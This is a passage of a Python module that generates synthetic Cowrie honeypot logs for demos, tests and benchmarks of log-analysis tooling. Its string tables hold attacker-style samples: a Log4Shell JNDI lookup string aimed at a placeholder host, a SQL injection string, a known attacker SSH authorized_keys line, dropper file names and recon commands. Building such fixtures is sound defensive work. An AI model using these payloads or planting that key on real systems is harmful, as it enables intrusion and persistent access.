"""Realistic, deterministic sample Cowrie JSON logs for demos, trials, tests and benchmarks
(``cowrie-report sample-logs``).

Everything is driven by one ``random.Random(seed)``: the same :class:`SampleConfig` always
produces byte-identical files.

Three entry points:

* :func:`generate_sessions` yields each session's events (plain dicts, exactly the fields
  Cowrie writes) in order. Clean: no duplicates, no bad lines.
* :func:`write_sample_logs` writes a sensor fleet's daily files
  (``<out>/<sensor>/cowrie.json.YYYY-MM-DD``, the last day optionally ``cowrie.json``, older
  days ``.gz``/``.bz2``) with counted dirt, and returns a :class:`SampleSummary`.
* :func:`write_event_file` writes one big plain ``cowrie.json`` of about ``n_events`` events
  for benchmarks (fast path, clean unless asked).

Realism notes
-------------
* **Session mix**: ~20% telnet. Scanners that only exchange versions, brute forcers
  (failed logins, some public-key attempts), interactive bots (recon commands, ``echo`` of an
  ``authorized_keys`` line, ``wget``/``curl`` droppers with downloads, failed downloads,
  SCP uploads, VirusTotal results) and SSH tunnel abusers (``direct-tcpip.request``).
* **Source addresses**: ``ip_pool`` (default ``max(20, sessions_per_day // 5)``) is the number
  of attacker addresses active on one day. 1% of it (at least 3) is a *hot set* of scanners
  that are active every day and account for ~55% of sessions (Zipf-like inside the set); the
  rest is a long tail drawn uniformly from a window that slides by half its size each day
  (so some addresses come back the next day). For ``sessions_per_day=100_000`` this gives
  ``ip_pool=20_000`` and about 18k distinct addresses per day, the order of magnitude busy
  internet-facing sensors see. ``ipv6_share`` of addresses are IPv6.
* **Version styles** (``styles``, one spec per sensor, cycled): ``modern`` (Cowrie >= 3.0.4:
  12-hex session, ``Z`` timestamps, ``duration_ms`` int, ``protocol`` and ``uuid`` on every
  event), ``mid`` (2.x era: ``+0000`` timestamps, string ``duration`` on ssh, float on telnet,
  ``"b'SSH-2.0-Go'"`` bytes-repr client versions) and ``old`` (v1.x: 8-hex session ids, float
  ``duration``, ``protocol`` only on ``session.connect``, no ``uuid``, no ``client.kex``
  (algorithm lists on ``client.version``), ``", "`` separators and random key order).
  A spec such as ``"old>mid"`` means the sensor was upgraded: the first half of the days use
  ``old``, the rest ``mid``.
* **Dirt** (all optional, every kind counted in the summary): see :class:`SampleConfig`.
"""

from __future__ import annotations

import bisect
import bz2
import datetime
import gzip
import hashlib
import io
import itertools
import json
import random
from collections import Counter
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import orjson

__all__ = [
    "BAD_LINE_KINDS",
    "STYLES",
    "SampleConfig",
    "SampleSummary",
    "generate_sessions",
    "write_event_file",
    "write_sample_logs",
]

STYLES = ("modern", "mid", "old")
"""Known version styles; a sensor style spec is one of these or several joined by ``>``."""

BAD_LINE_KINDS = (
    "not_json",
    "json_array",
    "no_eventid",
    "legacy_eventid",
    "bad_timestamp",
    "missing_timestamp",
    "no_session",
)
"""Kinds of bad lines inserted into files (plus ``truncated`` for a cut last line)."""

_DAY_US = 86_400 * 1_000_000
_EPOCH = datetime.date(1970, 1, 1)


@dataclass(frozen=True)
class SampleConfig:
    """What to generate. Defaults make a small demo: 2 sensors, 7 days, ~300 sessions/day.

    Attributes:
        seed: seed of the single ``random.Random`` driving everything.
        start: first day (UTC).
        days: number of days.
        sessions_per_day: sessions per day over all sensors (sensors get unequal shares).
        sensors: sensor names; each gets its own directory.
        styles: version style spec per sensor, cycled (see module doc); ``"old>mid"`` is a
            sensor upgraded half-way through the period.
        ip_pool: attacker addresses active per day; ``None`` means
            ``max(20, sessions_per_day // 5)``.
        ipv6_share: share of attacker addresses that are IPv6.
        duplicate_rate: probability an event line is written twice; ``session.closed`` and
            ``session.file_download`` events are ten times as likely (Cowrie 2.x did that).
        bad_lines: bad lines spread over the files, cycling through :data:`BAD_LINE_KINDS`.
        dirty_strings: ~1% of usernames, passwords and commands carry control characters,
            terminal escapes, Rich-markup-like text, emoji codes, NUL or undecodable bytes.
        long_commands: number of ~100 KB commands (only with ``dirty_strings``).
        sensorless_events: events with the ``sensor`` field missing or empty (alternating).
        truncated_last_line: the first sensor's last file ends in a cut, newline-less line.
        pretty_printed: one event (the first ``login.success`` of a non-``old`` sensor) is
            written indented over several lines.
        current_file: name the last day ``cowrie.json`` instead of ``cowrie.json.<date>``.
        compress: ``"gz"``, ``"bz2"`` or ``None``: compression of days older than the last two
            (logrotate's ``delaycompress``: yesterday stays plain).
        force_midnight_sessions: for each day boundary start one long interactive session
            shortly before midnight so it lands in two daily files.
    """

    seed: int = 0
    start: datetime.date = datetime.date(2024, 3, 1)
    days: int = 7
    sessions_per_day: int = 300
    sensors: tuple[str, ...] = ("honeypot-a", "honeypot-b")
    styles: tuple[str, ...] = ("modern", "old>mid")
    ip_pool: int | None = None
    ipv6_share: float = 0.03
    duplicate_rate: float = 0.01
    bad_lines: int = 14
    dirty_strings: bool = True
    long_commands: int = 1
    sensorless_events: int = 4
    truncated_last_line: bool = True
    pretty_printed: bool = True
    current_file: bool = True
    compress: str | None = "gz"
    force_midnight_sessions: bool = True

    def __post_init__(self) -> None:
        if self.days < 1:
            raise ValueError("days must be >= 1")
        if self.sessions_per_day < 0:
            raise ValueError("sessions_per_day must be >= 0")
        if not self.sensors:
            raise ValueError("at least one sensor is needed")
        if self.compress not in (None, "gz", "bz2"):
            raise ValueError("compress must be 'gz', 'bz2' or None")
        for spec in self.styles:
            for part in spec.split(">"):
                if part not in STYLES:
                    raise ValueError(f"unknown style {part!r} (known: {', '.join(STYLES)})")
        if not self.styles:
            raise ValueError("at least one style is needed")

    @property
    def effective_ip_pool(self) -> int:
        """Attacker addresses active per day (``ip_pool`` or its default)."""
        if self.ip_pool is not None:
            return max(1, self.ip_pool)
        return max(20, self.sessions_per_day // 5)

    def clean(self) -> SampleConfig:
        """The same configuration without any dirt (well-formed, unique events only)."""
        return replace(
            self,
            duplicate_rate=0.0,
            bad_lines=0,
            dirty_strings=False,
            long_commands=0,
            sensorless_events=0,
            truncated_last_line=False,
            pretty_printed=False,
        )


@dataclass
class SampleSummary:
    """What :func:`write_sample_logs` wrote.

    ``events`` counts event records written (one per line, the pretty-printed block counts
    once), duplicates included and bad lines excluded; ``unique_events`` is
    ``events - duplicates``. ``bad_lines`` counts lines no loader should accept, by kind
    (:data:`BAD_LINE_KINDS` plus ``truncated``). ``dirt`` counts accepted-but-dirty things:
    ``dirty_strings``, ``long_commands``, ``missing_sensor``, ``empty_sensor``,
    ``pretty_printed``, ``duplicates``.
    """

    out_dir: Path
    files: list[Path] = field(default_factory=list)
    sessions: int = 0
    events: int = 0
    duplicates: int = 0
    midnight_sessions: int = 0
    bad_lines: Counter[str] = field(default_factory=Counter)
    dirt: Counter[str] = field(default_factory=Counter)
    eventids: Counter[str] = field(default_factory=Counter)
    events_by_style: Counter[str] = field(default_factory=Counter)

    @property
    def unique_events(self) -> int:
        """Distinct events written (``events - duplicates``)."""
        return self.events - self.duplicates

    def one_line(self) -> str:
        """A one-line human summary."""
        bad = sum(self.bad_lines.values())
        return (
            f"wrote {len(self.files)} files to {self.out_dir}: {self.sessions} sessions, "
            f"{self.events} events ({self.duplicates} duplicates), {bad} bad lines, "
            f"{self.midnight_sessions} sessions across midnight"
        )


# --------------------------------------------------------------------------------------
# Static vocabularies (skewed: earlier entries are drawn more often)

_USERNAMES = (
    "root", "root", "root", "root", "admin", "admin", "", "user", "ubuntu", "test", "oracle",
    "pi", "support", "guest", "ftpuser", "postgres", "git", "deploy", "hadoop", "nagios",
    "ubnt", "mysql", "service", "administrator", "debian", "centos", "www", "jenkins",
    "minecraft", "steam", "telnet", "default", "tomcat", "elastic", "sa", "user1", "teamspeak",
)  # fmt: skip
_PASSWORDS = (
    "123456", "admin", "password", "", "root", "12345678", "1234", "123", "12345", "test",
    "ubuntu", "qwerty", "raspberry", "admin123", "123456789", "1qaz2wsx", "P@ssw0rd",
    "passw0rd", "toor", "111111", "default", "support", "changeme", "abc123", "guest",
    "Aa123456", "password1", "1234567890", "huawei", "vizxv", "xc3511", "7ujMko0admin",
    "letmein", "qwe123", "root123", "Passw0rd!", "zxcvbnm", "dreambox", "888888",
)  # fmt: skip
_DIRTY_STRINGS = (
    "\x1b[2J\x1b[H",
    "[bold red]root[/bold red]",
    "[/x]",
    ":smile: :skull:",
    "adm\x00in",
    "\x07\x08\x7f",
    "user\r\nname",
    "\u202eevil\u202c",
    "\U0001f600\U0001f480",
    "p\udcc3(ss\udcff",  # undecodable attacker bytes (surrogateescape)
    "' OR '1'='1",
    "${jndi:ldap://198.51.100.7/a}",
)
_RECON = (
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    "cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6,$7,$8,$9;}'",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "ls -lh $(which ls)",
    "which ls",
    "crontab -l",
    "w",
    "uname -m",
    "cat /proc/cpuinfo | grep model | grep name | wc -l",
    "top",
    "uname",
    "lscpu | grep Model",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    "whoami",
    "cat /etc/os-release",
    "nproc",
    "ps aux",
)
_FAILING = ("lockr -ia .ssh", "enable", "system", "shell", "/bin/busybox ECCHI", "sudo -i", "ECCHI")
_SSH_KEY = (
    "ssh-rsa AAAAB3NzaC1yc2EAAAABJQAAAQEArDp4cun2lhr4KUhBGE7VvAcwdli2a8dbnrTOrbMz1+5O73fcBOx8"
    "NVbUT0bUanUV9tJ2/9p7+vD0EpZ3Tz/+0kX34uAx1RV/75GVOmNx+9EuWOnvNoaJe0QXxziIg9eLBHpgLMuakb5"
    "+BgTFB+rKJAw9u9FSTDengvS8hX1kNFS4Mjux0hJOK8rvcEmPecjdySYMb66nylAKGwCEE6WEQHmd1mUPgHwGQ0"
    "hWCwsQk13yCGPK5w6hYp5zYkFnvlC8hGmd4Ww+u97k6pfTGTUbJk14ujvcD9iUKQTTWYYjIIu5PmUux5bsZ0R4W"
    "FwdIe6+i6rBLAsPKgAySVKPRK+oRw== mdrfckr"
)
_SSH_CLIENTS = (  # (version, kex, hostkey, enc, mac, comp), most common first
    (
        "SSH-2.0-Go",
        "curve25519-sha256@libssh.org,ecdh-sha2-nistp256,ecdh-sha2-nistp384,ecdh-sha2-nistp521,"
        "diffie-hellman-group14-sha1,diffie-hellman-group1-sha1",
        "ssh-rsa,ssh-dss",
        "aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com,arcfour256,arcfour128",
        "hmac-sha2-256-etm@openssh.com,hmac-sha2-256,hmac-sha1,hmac-sha1-96",
        "none",
    ),
    (
        "SSH-2.0-libssh_0.9.6",
        "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,"
        "diffie-hellman-group14-sha256,diffie-hellman-group16-sha512",
        "ssh-ed25519,ecdsa-sha2-nistp521,rsa-sha2-512,rsa-sha2-256,ssh-rsa",
        "chacha20-poly1305@openssh.com,aes256-gcm@openssh.com,aes128-ctr,aes256-cbc",
        "hmac-sha2-256-etm@openssh.com,hmac-sha2-512-etm@openssh.com,hmac-sha2-256,hmac-sha1",
        "none,zlib@openssh.com",
    ),
    (
        "SSH-2.0-OpenSSH_7.4p1 Raspbian-10+deb9u7",
        "curve25519-sha256,curve25519-sha256@libssh.org,ecdh-sha2-nistp256,"
        "diffie-hellman-group-exchange-sha256,diffie-hellman-group14-sha1",
        "ssh-ed25519-cert-v01@openssh.com,ssh-rsa-cert-v01@openssh.com,ssh-ed25519,ssh-rsa",
        "chacha20-poly1305@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr,aes128-gcm@openssh.com",
        "umac-64-etm@openssh.com,hmac-sha2-256-etm@openssh.com,hmac-sha2-256,hmac-sha1",
        "none,zlib@openssh.com,zlib",
    ),
    (
        "SSH-2.0-libssh2_1.9.0",
        "ecdh-sha2-nistp256,ecdh-sha2-nistp384,diffie-hellman-group-exchange-sha256,"
        "diffie-hellman-group14-sha1,diffie-hellman-group1-sha1",
        "ecdsa-sha2-nistp256,ssh-rsa,ssh-dss",
        "aes128-ctr,aes192-ctr,aes256-ctr,aes256-cbc,aes128-cbc,3des-cbc",
        "hmac-sha2-256,hmac-sha2-512,hmac-sha1,hmac-sha1-96,hmac-md5",
        "none",
    ),
    (
        "SSH-2.0-PuTTY_Release_0.70",
        "ecdh-sha2-nistp256,diffie-hellman-group-exchange-sha256,diffie-hellman-group14-sha1",
        "ssh-rsa,ssh-dss",
        "aes256-ctr,aes256-cbc,aes192-ctr,aes128-ctr,3des-ctr,blowfish-cbc",
        "hmac-sha2-256,hmac-sha1,hmac-md5",
        "none,zlib",
    ),
    (
        "SSH-2.0-paramiko_2.7.2",
        "ecdh-sha2-nistp256,ecdh-sha2-nistp384,diffie-hellman-group14-sha256",
        "ssh-ed25519,ecdsa-sha2-nistp256,rsa-sha2-512,ssh-rsa",
        "aes128-ctr,aes192-ctr,aes256-ctr,aes128-cbc,3des-cbc",
        "hmac-sha2-256,hmac-sha2-512,hmac-sha1",
        "none",
    ),
    (
        "SSH-2.0-ZGrab ZGrab SSH Survey",
        "curve25519-sha256@libssh.org,ecdh-sha2-nistp256,diffie-hellman-group14-sha1",
        "ssh-rsa,ecdsa-sha2-nistp256,ssh-ed25519",
        "aes128-gcm@openssh.com,aes128-ctr,aes192-ctr,aes256-ctr",
        "hmac-sha2-256,hmac-sha1",
        "none",
    ),
    (
        "SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.6",
        "sntrup761x25519-sha512@openssh.com,curve25519-sha256,ecdh-sha2-nistp256",
        "ssh-ed25519,rsa-sha2-512,rsa-sha2-256",
        "chacha20-poly1305@openssh.com,aes128-ctr,aes256-gcm@openssh.com",
        "umac-64-etm@openssh.com,hmac-sha2-256-etm@openssh.com",
        "none,zlib@openssh.com",
    ),
)


def _client_profile(spec: tuple[str, ...]) -> dict[str, Any]:
    version, kex, key, enc, mac, comp = spec
    algorithms = ";".join((kex, enc, mac, comp))
    return {
        "version": version,
        "hassh": hashlib.md5(algorithms.encode()).hexdigest(),  # hassh is defined as md5
        "hasshAlgorithms": algorithms,
        "kexAlgs": kex.split(","),
        "keyAlgs": key.split(","),
        "encCS": enc.split(","),
        "macCS": mac.split(","),
        "compCS": comp.split(","),
        "langCS": [""],
    }


_CLIENTS = tuple(_client_profile(spec) for spec in _SSH_CLIENTS)
_DROPPER_NAMES = (
    "bins.sh", "x86", "sora.sh", "ohshit.sh", "Mozi.m", "arm7", "mips", "8UsA.sh", "i686",
    "wget.sh", "tftp1.sh", ".s", "kinsing", "dota3.tar.gz", "xmrig", "ssh.sh",
)  # fmt: skip
_TUNNEL_TARGETS = (
    ("www.google.com", 443), ("ya.ru", 80), ("smtp.gmail.com", 25), ("api.ipify.org", 80),
    ("1.1.1.1", 53), ("mx1.mail.ru", 25), ("www.bing.com", 443), ("ip-api.com", 80),
)  # fmt: skip
_PASSWORD_CHARS = "abcdefghijkmnpqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789"
_DOWNLOAD_ERRORS = ("Connection refused", "DNS lookup failed", "Connection timed out")


def _uuid_like(rng: random.Random) -> str:
    a, b, c, d = rng.getrandbits(32), rng.getrandbits(16), rng.getrandbits(16), rng.getrandbits(48)
    return f"{a:08x}-{b:04x}-11ee-{c:04x}-{d:012x}"


def _skewed(r: float, n: int, power: float = 2.0) -> int:
    """Index into a sequence of ``n`` items, earlier items more likely."""
    return int(n * r**power)


# --------------------------------------------------------------------------------------
# Timestamps


class _TimeFormatter:
    """Microseconds since the epoch -> Cowrie timestamp strings, fast (per-day prefix cache)."""

    def __init__(self) -> None:
        self._prefix: dict[int, str] = {}

    def __call__(self, us: int, suffix: str) -> str:
        secs, frac = divmod(us, 1_000_000)
        day, sod = divmod(secs, 86_400)
        prefix = self._prefix.get(day)
        if prefix is None:
            prefix = (_EPOCH + datetime.timedelta(days=day)).isoformat() + "T"
            self._prefix[day] = prefix
        hour, rem = divmod(sod, 3600)
        minute, sec = divmod(rem, 60)
        return f"{prefix}{hour:02d}:{minute:02d}:{sec:02d}.{frac:06d}{suffix}"


# --------------------------------------------------------------------------------------
# Address pool


class _AddressPool:
    """Skewed attacker addresses: a hot set every day plus a sliding long tail."""

    def __init__(self, rng: random.Random, per_day: int, ipv6_share: float) -> None:
        self.hot = max(3, per_day // 100) if per_day >= 6 else max(1, per_day // 2)
        self.tail = max(1, per_day - self.hot)
        self._salt = rng.getrandbits(32)
        self._ipv6_cut = int(ipv6_share * 1_000_003)
        self._cache: dict[int, str] = {}
        self._rng = rng

    def address(self, index: int) -> str:
        ip = self._cache.get(index)
        if ip is None:
            ip = self._cache[index] = self._make(index)
        return ip

    def _make(self, index: int) -> str:
        x = ((index + 1) * 2654435761 + self._salt) & 0xFFFFFFFF
        y = (x * 40503 + index) % 1_000_003
        if y < self._ipv6_cut:
            prefix = ("2a03:b0c0:3:d0", "2604:a880:400:d1", "2001:470:1f0b:17c", "240e:3b7:3272")
            return f"{prefix[x % 4]}::{(x >> 8) & 0xFFFF:x}:{x & 0xFFF:x}"
        a = 1 + (x >> 24) % 222
        if a in (10, 100, 127, 169, 172, 192, 198, 203):  # keep clear of private/doc ranges
            a += 1
        return f"{a}.{(x >> 16) & 0xFF}.{(x >> 8) & 0xFF}.{1 + (x & 0xFF) % 254}"

    def pick(self, day: int) -> str:
        r = self._rng.random()
        if r < 0.55:
            return self.address(_skewed(r / 0.55, self.hot, 2.5))
        offset = day * (self.tail // 2)
        return self.address(self.hot + offset + int(self._rng.random() * self.tail))


# --------------------------------------------------------------------------------------
# Session generation


@dataclass
class _Style:
    name: str
    suffix: str  # timestamp suffix
    sid_bits: int
    protocol_everywhere: bool
    uuid: bool
    kex_event: bool
    bytes_version: bool


_STYLE_DEFS = {
    "modern": _Style("modern", "Z", 48, True, True, True, False),
    "mid": _Style("mid", "+0000", 48, True, True, True, True),
    "old": _Style("old", "Z", 32, False, False, False, False),
}


class _Generator:
    """Produces sessions as lists of ``(timestamp_us, style, event)``; tracks dirt counters."""

    def __init__(self, config: SampleConfig) -> None:
        self.config = config
        self.rng = rng = random.Random(config.seed)
        self.fmt = _TimeFormatter()
        self.pool = _AddressPool(rng, config.effective_ip_pool, config.ipv6_share)
        n = len(config.sensors)
        weights = [rng.uniform(0.6, 1.4) for _ in range(n)]
        total = sum(weights)
        acc = 0.0
        self.sensor_cum: list[float] = []
        for w in weights:
            acc += w / total
            self.sensor_cum.append(acc)
        self.sensor_cum[-1] = 1.0
        self.sensor_ip = [f"172.{17 + i % 8}.0.{2 + i // 8}" for i in range(n)]
        self.sensor_uuid = [_uuid_like(rng) for _ in range(n)]
        self.sensor_styles = [
            [_STYLE_DEFS[p] for p in config.styles[i % len(config.styles)].split(">")]
            for i in range(n)
        ]
        # malware: (url, sha256, destfile); the url host is a scanner-ish address
        self.malware = []
        for i in range(max(8, min(60, config.sessions_per_day // 10))):
            host = self.pool.address(rng.randrange(self.pool.hot + self.pool.tail))
            if ":" in host:
                host = f"[{host}]"
            name = _DROPPER_NAMES[i % len(_DROPPER_NAMES)]
            self.malware.append(
                (f"http://{host}/{name}", f"{rng.getrandbits(256):064x}", f"/tmp/{name}")
            )
        self.vt: dict[str, tuple[int, int, str]] = {}
        self.counters: Counter[str] = Counter()
        self.long_left = config.long_commands if config.dirty_strings else 0
        self.sensorless_left = config.sensorless_events
        self.sessions = 0

    # -- helpers -------------------------------------------------------------------------

    def _style(self, sensor: int, day: int) -> _Style:
        styles = self.sensor_styles[sensor]
        return styles[min(len(styles) - 1, day * len(styles) // self.config.days)]

    def _string(self, population: Sequence[str], power: float = 2.2) -> str:
        rng = self.rng
        if self.config.dirty_strings and rng.random() < 0.01:
            self.counters["dirty_strings"] += 1
            return _DIRTY_STRINGS[rng.randrange(len(_DIRTY_STRINGS))]
        return population[_skewed(rng.random(), len(population), power)]

    def _command(self, cmd: str) -> str:
        if self.config.dirty_strings and self.rng.random() < 0.01:
            self.counters["dirty_strings"] += 1
            return cmd + " " + _DIRTY_STRINGS[self.rng.randrange(len(_DIRTY_STRINGS))]
        return cmd

    # -- one session ---------------------------------------------------------------------

    def session(
        self, sensor: int, day: int, start_us: int, force_long: bool = False
    ) -> tuple[_Style, list[tuple[int, dict[str, Any]]]]:
        """One session of ``sensor`` starting at ``start_us``: its timed events, in order."""
        rng = self.rng
        style = self._style(sensor, day)
        fmt = self.fmt
        suffix = style.suffix
        sid = f"{rng.getrandbits(style.sid_bits):0{style.sid_bits // 4}x}"
        src_ip = self.pool.pick(day)
        telnet = not force_long and rng.random() < 0.2
        common: dict[str, Any] = {"sensor": self.config.sensors[sensor]}
        if style.uuid:
            common["uuid"] = self.sensor_uuid[sensor]
        common["src_ip"] = src_ip
        common["session"] = sid
        if style.protocol_everywhere:
            common["protocol"] = "telnet" if telnet else "ssh"
        events: list[tuple[int, dict[str, Any]]] = []
        append = events.append

        def emit(t: int, eventid: str, message: Any, fields: dict[str, Any]) -> None:
            ev = {"eventid": eventid, **fields, "message": message, **common}
            ev["timestamp"] = fmt(t, suffix)
            append((t, ev))

        self._connect(emit, start_us, sensor, src_ip, sid, telnet)
        kind = self._kind(force_long, telnet)
        t = start_us if telnet else self._client(emit, start_us, style)
        t = self._attack(emit, t, kind, style, telnet, force_long)
        self._close(emit, t, start_us, style, telnet)
        self._drop_sensor(events)
        self.sessions += 1
        return style, events

    def _connect(
        self, emit: _Emit, t: int, sensor: int, src_ip: str, sid: str, telnet: bool
    ) -> None:
        rnd = self.rng.random
        src_port = 1024 + int(rnd() * 64511)
        dst_ip = self.sensor_ip[sensor]
        dst_port = (23 if rnd() < 0.5 else 2223) if telnet else (22 if rnd() < 0.5 else 2222)
        emit(
            t,
            "cowrie.session.connect",
            f"New connection: {src_ip}:{src_port} ({dst_ip}:{dst_port}) [session: {sid}]",
            {
                "src_port": src_port,
                "dst_ip": dst_ip,
                "dst_port": dst_port,
                "protocol": "telnet" if telnet else "ssh",
            },
        )

    def _kind(self, force_long: bool, telnet: bool) -> str:
        """What the session does: ``scan``, ``brute``, ``shell`` or (SSH only) ``tunnel``."""
        rnd = self.rng.random
        r = rnd()
        kind = "shell" if force_long else "scan" if r < 0.22 else "brute" if r < 0.62 else "shell"
        if kind == "shell" and not telnet and rnd() < 0.12:
            kind = "tunnel"
        return kind

    def _client(self, emit: _Emit, t: int, style: _Style) -> int:
        """The SSH client's version (and key exchange) events; the clock after them."""
        rnd = self.rng.random
        client = _CLIENTS[_skewed(rnd(), len(_CLIENTS), 2.0)]
        t += 20_000 + int(rnd() * 300_000)
        version = client["version"]
        shown = f"b'{version}'" if style.bytes_version else version
        if style.kex_event:
            emit(t, "cowrie.client.version", f"Remote SSH version: {shown}", {"version": shown})
            t += 1_000 + int(rnd() * 50_000)
            kex = {k: v for k, v in client.items() if k != "version"}
            emit(t, "cowrie.client.kex", f"SSH client hassh fingerprint: {client['hassh']}", kex)
        else:
            fields = {
                "version": shown,
                "kexAlgs": client["kexAlgs"],
                "keyAlgs": client["keyAlgs"],
                "encCS": client["encCS"],
                "macCS": client["macCS"],
                "compCS": client["compCS"],
            }
            emit(t, "cowrie.client.version", f"Remote SSH version: {shown}", fields)
        return t

    def _attack(
        self, emit: _Emit, t: int, kind: str, style: _Style, telnet: bool, force_long: bool
    ) -> int:
        """Login attempts and, after a successful one, a shell or tunnels; the clock after."""
        rng = self.rng
        rnd = rng.random
        if kind == "scan":
            return t + 100_000 + int(rnd() * 5_000_000)
        if not telnet and rnd() < 0.08:
            t += 50_000 + int(rnd() * 500_000)
            user = self._string(_USERNAMES)
            fp = ":".join(f"{rng.getrandbits(8):02x}" for _ in range(16))
            emit(
                t,
                "cowrie.client.fingerprint",
                f"public key attempt for user {user} of type ssh-rsa with fingerprint {fp}",
                {"username": user, "fingerprint": fp, "key": _SSH_KEY[:-8], "type": "ssh-rsa"},
            )
        fails = 1 + _skewed(rnd(), 8, 2.0) if kind == "brute" else _skewed(rnd(), 4, 3.0)
        for _ in range(fails):
            t += 300_000 + int(rnd() * 3_000_000)
            user = self._string(_USERNAMES)
            password = self._string(_PASSWORDS, 1.6)
            emit(
                t,
                "cowrie.login.failed",
                f"login attempt [{user}/{password}] failed",
                {"username": user, "password": password},
            )
        if kind == "brute":
            return t + 100_000 + int(rnd() * 2_000_000)
        t += 300_000 + int(rnd() * 3_000_000)
        user = self._string(_USERNAMES, 3.0)
        password = self._string(_PASSWORDS, 1.6)
        emit(
            t,
            "cowrie.login.success",
            f"login attempt [{user}/{password}] succeeded",
            {"username": user, "password": password},
        )
        if kind == "tunnel":
            return self._tunnel(emit, t)
        return self._shell(emit, t, style, telnet, force_long)

    def _close(self, emit: _Emit, t: int, start_us: int, style: _Style, telnet: bool) -> None:
        """The ``session.closed`` event, its duration in the style's form."""
        t += 1_000 + int(self.rng.random() * 200_000)
        seconds = (t - start_us) / 1_000_000
        if style.name == "modern":
            emit(
                t,
                "cowrie.session.closed",
                f"Connection lost after {seconds:.1f} seconds",
                {"duration_ms": (t - start_us) // 1000},
            )
        elif style.name == "mid":
            duration: Any = f"{seconds:.1f}" if not telnet else round(seconds, 6)
            emit(
                t,
                "cowrie.session.closed",
                f"Connection lost after {int(seconds)} seconds",
                {"duration": duration},
            )
        else:
            emit(
                t,
                "cowrie.session.closed",
                f"Connection lost after {int(seconds)} seconds",
                {"duration": round(seconds, 6)},
            )

    def _drop_sensor(self, events: list[tuple[int, dict[str, Any]]]) -> None:
        """Now and then (``sensorless_events``) the sensor field of one event goes missing
        or empty, alternately."""
        if self.sensorless_left <= 0 or self.sessions % 97 != 50:
            return
        rnd = self.rng.random
        ev = events[1 + int(rnd() * (len(events) - 1))][1] if len(events) > 1 else events[0][1]
        if self.sensorless_left % 2:
            del ev["sensor"]
            self.counters["missing_sensor"] += 1
        else:
            ev["sensor"] = ""
            self.counters["empty_sensor"] += 1
        self.sensorless_left -= 1

    def _tunnel(self, emit: _Emit, t: int) -> int:
        """Port forwarding through the honeypot (direct-tcpip requests, some with data)."""
        rnd = self.rng.random
        for _ in range(1 + _skewed(rnd(), 6)):
            t += 100_000 + int(rnd() * 2_000_000)
            host, port = _TUNNEL_TARGETS[_skewed(rnd(), len(_TUNNEL_TARGETS))]
            orig_port = 1024 + int(rnd() * 60000)
            emit(
                t,
                "cowrie.direct-tcpip.request",
                f"direct-tcp connection request to {host}:{port} from 127.0.0.1:{orig_port}",
                {"dst_ip": host, "dst_port": port, "orig_ip": "127.0.0.1", "orig_port": orig_port},
            )
            if rnd() < 0.3:
                t += 10_000 + int(rnd() * 200_000)
                data = f"GET / HTTP/1.1\r\nHost: {host}\r\n\r\n"
                emit(
                    t,
                    "cowrie.direct-tcpip.data",
                    f"direct-tcp forward to {host}:{port} with data {data!r}",
                    {"dst_ip": host, "dst_port": port, "data": data},
                )
        return t

    def _shell(self, emit: _Emit, t: int, style: _Style, telnet: bool, force_long: bool) -> int:
        """An interactive session after its login: terminal set-up, reconnaissance, maybe a
        take-over, a download and an upload, then ``exit`` and the TTY log; the clock after."""
        rnd = self.rng.random
        shell = _Shell(self, emit, t)
        if telnet:
            for cmd in ("enable", "system", "shell", "sh"):
                shell.command(cmd, failed=cmd != "sh", gap=500_000)
        else:
            shell.terminal_setup(style)
        shell.recon(force_long)
        shell.take_over()
        if rnd() < 0.45 or force_long:
            shell.download(style)
        if rnd() < 0.05:
            shell.upload()
        shell.leave(style)
        return shell.t

    # -- the whole period ----------------------------------------------------------------

    def day_starts(self, day: int) -> list[tuple[int, int, bool]]:
        """``(start_us, sensor, force_long)`` for one day's sessions, in start order."""
        config = self.config
        rng = self.rng
        base = ((config.start - _EPOCH).days + day) * _DAY_US
        last = day == config.days - 1
        span = _DAY_US - (3600 * 1_000_000 if last else 0)  # nothing spills past the last day
        n = config.sessions_per_day
        offsets = sorted(int(rng.random() * span) for _ in range(n))
        cum = self.sensor_cum
        out = []
        for off in offsets:
            r = rng.random()
            sensor = 0
            while cum[sensor] < r:
                sensor += 1
            out.append((base + off, sensor, False))
        if config.force_midnight_sessions and not last:
            sensor = int(rng.random() * len(config.sensors))
            out.append((base + _DAY_US - int((5 + rng.random() * 40) * 1_000_000), sensor, True))
            out.sort()
        return out


#: ``emit(t, eventid, message, fields)``: add one event of the session at time ``t`` (µs).
_Emit = Callable[[int, str, Any, dict[str, Any]], None]


class _Shell:
    """The steps of one interactive session, sharing its clock ``t`` (µs): each event
    moves it on."""

    def __init__(self, gen: _Generator, emit: _Emit, t: int) -> None:
        self.gen = gen
        self.rng = gen.rng
        self.emit = emit
        self.start = self.t = t

    def command(self, cmd: str, failed: bool = False, gap: int = 4_000_000) -> None:
        """One command typed (``failed``: and the shell did not know it)."""
        rnd = self.rng.random
        self.t += 100_000 + int(rnd() * gap)
        cmd = self.gen._command(cmd)
        self.emit(self.t, "cowrie.command.input", f"CMD: {cmd}", {"input": cmd})
        if failed:
            self.t += 1_000 + int(rnd() * 20_000)
            self.emit(self.t, "cowrie.command.failed", f"Command not found: {cmd}", {"input": cmd})

    def terminal_setup(self, style: _Style) -> None:
        """What an SSH client sends before the first command: size, parameters, variables."""
        rnd = self.rng.random
        self.t += 10_000 + int(rnd() * 100_000)
        t = self.t
        plain = style.name == "old"
        if rnd() < 0.6:
            size = {"width": 80, "height": 24}
            self.emit(t, "cowrie.client.size", [] if plain else "Terminal Size: 80 24", size)
        if rnd() < 0.5:
            self.emit(t, "cowrie.session.params", [] if plain else "", {"arch": "linux-x64-lsb"})
        if rnd() < 0.1:
            var = {"name": "LANG", "value": "en_US.UTF-8"}
            self.emit(t, "cowrie.client.var", "request_env: LANG=en_US.UTF-8", var)

    def recon(self, force_long: bool) -> None:
        """A few looks around the system (many, slowly, in a forced long session)."""
        rnd = self.rng.random
